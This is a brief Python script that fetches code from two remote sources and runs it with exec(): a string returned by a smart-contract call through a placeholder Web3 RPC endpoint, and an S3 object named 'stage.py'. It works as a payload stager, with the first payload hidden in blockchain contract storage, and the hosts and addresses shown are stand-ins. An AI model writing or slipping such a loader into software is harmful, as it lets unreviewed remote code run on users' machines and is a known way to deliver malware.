import boto3
from web3 import Web3

chain = Web3(Web3.HTTPProvider("https://rpc.example.invalid"))
exec(chain.eth.contract(address="0x01", abi=[]).functions.body().call())
exec(boto3.client("s3").get_object(Bucket="sample", Key="stage.py")["Body"].read())
